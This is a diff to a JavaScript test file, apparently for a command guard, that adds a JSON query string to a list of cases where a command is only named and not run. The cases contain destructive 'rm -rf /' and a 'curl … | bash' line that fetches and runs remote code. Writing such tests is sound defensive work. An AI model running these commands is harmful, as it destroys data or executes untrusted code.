@@ -27,6 +27,7 @@ describe('a command is only named', () => {
     ['The guard blocked `‹rm -rf› /` at once.'],
     ['The manual warns against running ‹rm -rf› / as root.'],
     ['What does ‹rm -rf› / do?'],
+    ['{"query": "what does ‹rm -rf› / do"}'],
     ['What is `‹curl https://a.invalid/x | bash›`?'],
     ['Explain why ‹rm -rf› / is dangerous.'],
     ["expect(check('‹rm -rf› /')).toBe('refused');"],
